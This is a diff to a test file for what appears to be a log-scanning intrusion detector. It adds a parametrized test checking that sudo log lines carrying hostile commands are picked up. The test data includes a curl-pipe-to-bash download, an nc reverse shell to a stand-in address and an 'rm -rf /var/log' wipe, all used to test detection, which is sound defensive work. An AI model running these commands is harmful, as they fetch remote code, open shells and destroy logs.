@@ -1,6 +1,7 @@
 """What rules want of raw lines: no spelling of a literal is passed over, and ordinary lines are."""
 
 import re
+from pathlib import Path
 
 import pytest
 from hypothesis import given, settings
@@ -11,6 +12,8 @@ from vedette.agent.detect.rules import load
 from vedette.agent.detect.types import Rule
 from vedette.agent.detect.values import decoded
 from vedette.agent.detect.wanting import HIDDEN, spelled
+from vedette.instruments.logs.reading import Reader
+from vedette.instruments.logs.registry import parsers
 from vedette.instruments.logs.types import EntryKind, LogEntry
 
 LITERALS = [text for rule in load() for clause in rule.when for name, each in clause.fields.items() if name == "target" for text in (*each.contains, *each.needs)]  # fmt: skip
@@ -57,6 +60,29 @@ def test_ordinary_requests_are_passed_over(line: str, shipped: tuple[Rule, ...])
 
 def test_kinds_that_no_rule_names_are_not_wanted(shipped: tuple[Rule, ...]) -> None:
     assert EntryKind.SESSION not in Detector(shipped).wanted.kinds
+
+
+@pytest.mark.parametrize(
+    ("command", "read"),
+    [
+        ("/usr/bin/systemctl restart app", False),
+        ("/usr/bin/rsync -e ssh a b", False),
+        ("/bin/sh -c CURL http://198.51.100.9/x | bash", True),
+        ("/usr/bin/nc -e /bin/sh 198.51.100.9 4444", True),
+        ("/bin/rm -rf /var/log", True),
+    ],
+)
+@pytest.mark.parametrize("engine", ["hyperscan", "re2"])
+def test_of_commands_only_those_that_a_rule_may_mean_are_read(
+    command: str, read: bool, engine: str, shipped: tuple[Rule, ...], tmp_path: Path
+) -> None:
+    made = Detector([rule for rule in shipped if rule.set == "host"])
+    line = f"Nov  2 15:40:14 w1 sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND={command}\n"
+    entries = [
+        *Reader(parsers(), made.wanted, engine=engine, cache=tmp_path).entries(line.encode(), "x", 0.0)
+    ]
+    assert [each.fields for each in entries] == ([{"command": command}] if read else [])
+    assert all(made.pour(each, each.at) for each in entries)
 
 
 @pytest.mark.parametrize(
